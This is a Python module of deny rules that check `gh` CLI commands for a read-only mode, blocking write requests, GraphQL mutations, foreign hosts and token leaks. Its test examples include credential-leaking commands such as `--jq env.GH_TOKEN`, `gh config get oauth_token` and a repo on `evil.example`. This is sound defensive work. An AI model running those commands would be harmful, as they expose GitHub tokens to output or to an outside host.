"""`gh api` requests that only read, and --jq filters that cannot print secrets.

`gh api` sends GET unless -X says otherwise or fields are given (-f/-F make
it POST); a GraphQL request is always POST, so what it does is decided by the
document: queries read, mutations and subscriptions do not.  gh evaluates
--jq with the process environment loaded, so `env` and `$ENV` print tokens.
A host other than github.com (`--hostname`, a URL endpoint or operand,
`-R HOST/OWNER/REPO`) gets the request with GH_ENTERPRISE_TOKEN attached,
which gh sends to any non-github.com host (GH_DEBUG=api, gh 2.23.0).
Checked against gh 2.23.0 (`gh api --help`).
"""

from __future__ import annotations

import os
import re
from urllib.parse import urlsplit

from ...read.model import Word
from ...records import dataclass
from ..codes import Code, Effect
from ..problems import Problem
from . import rule

_FIELDS = frozenset({"-f", "-F"})
_METHOD_OVERRIDE = re.compile(r"\s*x-(http-)?method(-override)?\s*:", re.IGNORECASE)
_JQ_ENVIRONMENT = re.compile(r"\$ENV\b|\$__prog_env\b|\benv\b")
_READ_OPERATIONS = frozenset({"query", "fragment"})
_CLOSING = {"(": ")", "{": "}", "[": "]"}


_GITHUB_HOSTS = frozenset({"github.com", "www.github.com", "api.github.com", "gist.github.com"})
_REPO_NAME = re.compile(r"(?:github\.com/)?[^/:@\s]+/[^/:@\s]+", re.IGNORECASE)


@dataclass(frozen=True)
class OtherHost(Problem):
    code = Code.BP403
    effect = Effect.NETWORK
    message_format = ("`{text}` sends the request to a host other than github.com, with "
                      "GH_ENTERPRISE_TOKEN attached when it is set")
    hint_format = "query github.com; other hosts need leaving plan mode"
    text: str


@dataclass(frozen=True)
class JqReadsEnvironment(Problem):
    code = Code.BP407
    effect = Effect.LEAK
    message_format = "the jq filter reads environment variables (`env`, `$ENV`), which can hold tokens"
    hint_format = "drop `env`/`$ENV` from the filter"


@dataclass(frozen=True)
class ConfigKeyOutsideSettings(Problem):
    code = Code.BP406
    effect = Effect.LEAK
    message_format = ("`gh config get {word.text}` reads a key outside gh's settings; hosts.yml holds "
                      "`oauth_token`, which `gh config get oauth_token -h HOST` prints")
    hint_format = "`gh config list` shows every setting: {settings}"
    word: Word
    settings: str


@dataclass(frozen=True)
class ExtensionShadows(Problem):
    code = Code.BP405
    effect = Effect.EXEC
    message_format = ("the gh extension {path} is installed: a gh without a built-in `{name}` command "
                      "(older ones, 2.23 among them) runs the extension instead")
    hint_format = "remove or rename the extension, or read the same with `gh api`"
    path: str
    name: str


@dataclass(frozen=True)
class MethodOverrideHeader(Problem):
    code = Code.BP400
    effect = Effect.NETWORK
    message_format = "the header `{header}` asks the server for another HTTP method"
    hint_format = "drop the header"
    header: str | None


@dataclass(frozen=True)
class SendsLocalFile(Problem):
    code = Code.BP400
    effect = Effect.LEAK
    message_format = "`gh api -F {field}` sends the contents of a local file, which the checker cannot see"
    hint_format = "write the value literally with -f key=value"
    field: str | None


@dataclass(frozen=True)
class NotGraphqlMethod(Problem):
    code = Code.BP403
    effect = Effect.NETWORK
    message_format = "`gh api -X {method}` is not a GraphQL request method"
    hint_format = "drop -X; GraphQL queries are sent with POST"
    method: str | None


@dataclass(frozen=True)
class WritingMethod(Problem):
    code = Code.BP403
    effect = Effect.NETWORK
    message_format = "`gh api -X {given}` sends a {method} request, which can change things on GitHub"
    hint_format = "use -X GET (the default); changing things needs leaving plan mode"
    given: str | None
    method: str


@dataclass(frozen=True)
class FieldsPost(Problem):
    code = Code.BP403
    effect = Effect.NETWORK
    message_format = "fields (-f/-F) make `gh api` send a POST request, which can create or change things"
    hint_format = "add `-X GET` to send the fields as query parameters"


@dataclass(frozen=True)
class GraphqlUnparsed(Problem):
    code = Code.BP407
    message_format = "the GraphQL document does not parse, so its operations are unknown"
    hint_format = "fix the document's brackets and quotes"


@dataclass(frozen=True)
class GraphqlWrites(Problem):
    code = Code.BP407
    effect = Effect.NETWORK
    message_format = "the GraphQL document holds a `{operation}` operation, and only queries are read-only"
    hint_format = "send a `query {{ … }}` document; mutations need leaving plan mode"
    operation: str


def _deny_host(ctx, word, text: str) -> None:
    ctx.deny(OtherHost(text), word.span)


def _foreign_url(value: str | None) -> bool:
    """A URL whose host is not GitHub's (gh takes the host from it)."""
    return value is not None and "://" in value and \
        (urlsplit(value).hostname or "") not in _GITHUB_HOSTS


@rule("gh_repo", codes=[Code.BP403, Code.BP407],
      deny=["gh pr list -R evil.example/o/r", "gh pr view https://evil.example/o/r/pull/1"],
      allow=["gh pr list -R o/r", "gh pr view 12"])
def gh_repo(inv, ctx) -> None:
    """Repositories on hosts other than github.com, and --jq filters that read the environment.
    gh sends GH_ENTERPRISE_TOKEN to any other host; -R must be OWNER/REPO and a
    URL operand a github.com URL."""
    gh_jq(inv, ctx)
    for use in inv.uses("--repo"):
        if use.value is not None and not _REPO_NAME.fullmatch(use.value):
            _deny_host(ctx, use.word, use.word.text)
    for word in inv.positionals:
        if _foreign_url(word.value):
            _deny_host(ctx, word, word.text)


@rule("gh_repo_view", codes=[Code.BP403],
      deny=["gh repo view evil.example/o/r"], allow=["gh repo view o/r"])
def gh_repo_view(inv, ctx) -> None:
    """`gh repo view HOST/OWNER/REPO` with a host other than github.com.
    The host gets the request, with GH_ENTERPRISE_TOKEN attached when set."""
    gh_repo(inv, ctx)
    for word in inv.positionals:
        if word.value is not None and word.value.count("/") > 1 and "://" not in word.value \
                and not _REPO_NAME.fullmatch(word.value):
            _deny_host(ctx, word, word.text)


@rule("gh_jq", codes=[Code.BP407],
      deny=["gh search repos x --jq env.GH_TOKEN"], allow=["gh search repos x --json name --jq '.[].name'"])
def gh_jq(inv, ctx) -> None:
    """--jq filters that read environment variables.
    gh evaluates --jq with the process environment loaded: `env.GH_TOKEN` prints a secret."""
    for use in inv.uses("--jq"):
        if use.value is not None and _JQ_ENVIRONMENT.search(use.value):
            ctx.deny(JqReadsEnvironment(), use.word.span)


# The keys `gh config list` prints (gh 2.23.0).  Any other key is read from
# config.yml or, with --host, hosts.yml: `gh config get oauth_token -h github.com`
# printed the token (checked with a fake hosts.yml, gh 2.23.0).
_CONFIG_KEYS = frozenset({"git_protocol", "editor", "prompt", "pager", "http_unix_socket", "browser"})


@rule("gh_config_key", codes=[Code.BP406],
      deny=["gh config get oauth_token -h github.com", "gh config get user"],
      allow=["gh config get editor", "gh config get git_protocol -h github.com"])
def gh_config_key(inv, ctx) -> None:
    """`gh config get KEY` of a key other than the settings `gh config list` shows.
    Other keys are read from config.yml and hosts.yml, which holds the oauth token."""
    for word in inv.positionals:
        if word.value not in _CONFIG_KEYS:
            ctx.deny(ConfigKeyOutsideSettings(word, ", ".join(sorted(_CONFIG_KEYS))), word.span)


def _extension_dirs() -> list[str]:
    """Where gh looks for installed extensions: its data directory's `extensions`."""
    bases = [os.environ.get("GH_DATA_DIR", ""),
             os.path.join(os.environ.get("XDG_DATA_HOME", ""), "gh") if os.environ.get("XDG_DATA_HOME") else "",
             os.path.expanduser("~/.local/share/gh")]
    return [os.path.join(base, "extensions") for base in bases if base]


@rule("gh_newer_command", codes=[Code.BP405, Code.BP407],
      deny=[], allow=["gh cache list", "gh variable list -R o/r", "gh org list"],
      untestable="needs an installed gh extension of that name: tests/test_git_gh.py")
def gh_newer_command(inv, ctx) -> None:
    """`gh cache`, `variable`, `org` and `ruleset` while an extension of that name is installed.
    Older gh (2.23 among them) does not have these commands and runs the extension
    `gh-NAME` instead: checked, `gh cache list` ran an installed gh-cache."""
    gh_repo(inv, ctx)
    names = {inv.spec.path[1]}
    typed = inv.words[1].value if len(inv.words) > 1 else None
    if typed and not typed.startswith("-"):
        names.add(typed)   # an alias (`gh rs`) names its own extension
    for name in sorted(names):
        for directory in _extension_dirs():
            path = os.path.join(directory, f"gh-{name}")
            if os.path.lexists(path):
                ctx.deny(ExtensionShadows(path, name), inv.words[0].span)
                return


@rule("gh_api", codes=[Code.BP400, Code.BP403, Code.BP407],
      deny=["gh api -X POST repos/o/r/issues", "gh api repos/o/r/issues -f title=x",
            "gh api graphql -f query='mutation { x }'"],
      allow=["gh api repos/o/r/pulls", "gh api graphql -f query='query { viewer { login } }'"])
def gh_api(inv, ctx) -> None:
    """`gh api` requests that could write: methods other than GET, fields, GraphQL mutations.
    `gh api` sends GET unless -X says otherwise or fields are given (-f/-F make
    it POST); a GraphQL request is always POST, so the document decides."""
    gh_jq(inv, ctx)
    for use in inv.uses("--hostname"):
        if use.value is not None and use.value.lower() != "github.com":
            _deny_host(ctx, use.word, use.word.text)
    for word in inv.positionals[:1]:
        if _foreign_url(word.value):
            _deny_host(ctx, word, word.text)
    for use in inv.uses("-H"):
        if _METHOD_OVERRIDE.match(use.value or ""):
            ctx.deny(MethodOverrideHeader(use.value), use.word.span)
    fields = inv.uses(*_FIELDS)
    for use in fields:
        if "-F" in use.flag.names and "=@" in (use.value or ""):
            ctx.deny(SendsLocalFile(use.value), use.word.span)
    methods = inv.uses("-X")
    method = (methods[-1].value or "").upper() if methods else None
    endpoint = inv.positionals[0].value if inv.positionals else None
    if endpoint and _is_graphql(endpoint):
        if method not in (None, "GET", "POST"):
            ctx.deny(NotGraphqlMethod(methods[-1].value), methods[-1].word.span)
        _check_graphql(fields, ctx)
        return
    if method is not None and method != "GET":
        ctx.deny(WritingMethod(methods[-1].value, method), methods[-1].word.span)
    elif method is None and fields:
        ctx.deny(FieldsPost(), fields[0].word.span)


def _is_graphql(endpoint: str) -> bool:
    """`graphql`, or a URL of the GraphQL endpoint (github.com or an Enterprise server)."""
    path = endpoint.split("?")[0]
    if "://" in path:
        path = "/" + path.split("://", 1)[1].partition("/")[2]
    return path.strip("/") in ("graphql", "api/graphql")


def _check_graphql(fields, ctx) -> None:
    for use in fields:
        value, word = use.value, use.word
        key, _, document = value.partition("=")
        if key != "query" or document.startswith("@"):
            continue  # variables; a query read from a file was denied above
        operations = graphql_operations(document)
        if operations is None:
            ctx.deny(GraphqlUnparsed(), word.span)
            continue
        writing = [op for op in operations if op not in _READ_OPERATIONS]
        if writing:
            ctx.deny(GraphqlWrites(writing[0]), word.span)


_TOKEN = re.compile(
    r'(?P<skip>[\s,\ufeff]+|#[^\n\r]*)'
    r'|(?P<block>"""(?:\\"""|(?!""").)*""")'
    r'|(?P<string>"(?:\\.|[^"\\\n\r])*")'
    r'|(?P<name>[_A-Za-z][_0-9A-Za-z]*)'
    r'|(?P<open>[({\[])|(?P<close>[)}\]])'
    r'|(?P<other>\.\.\.|-?[0-9][0-9.eE+-]*|[!$&:=@|])',
    re.DOTALL,
)


def graphql_operations(document: str) -> list[str] | None:
    """The keyword of each top-level definition (`{…}` alone is a query); None if malformed."""
    operations: list[str] = []
    stack: list[str] = []
    expecting = True  # at the start of a top-level definition
    pos = 0
    while pos < len(document):
        match = _TOKEN.match(document, pos)
        if match is None:
            return None
        pos = match.end()
        kind = match.lastgroup
        if kind == "skip":
            continue
        if kind == "open":
            if not stack and expecting:
                if match.group() != "{":
                    return None
                operations.append("query")
                expecting = False
            stack.append(_CLOSING[match.group()])
        elif kind == "close":
            if not stack or stack.pop() != match.group():
                return None
            if not stack and match.group() == "}":
                expecting = True
        elif not stack and expecting:
            operations.append(match.group() if kind == "name" else "?")
            expecting = False
    return None if stack else operations
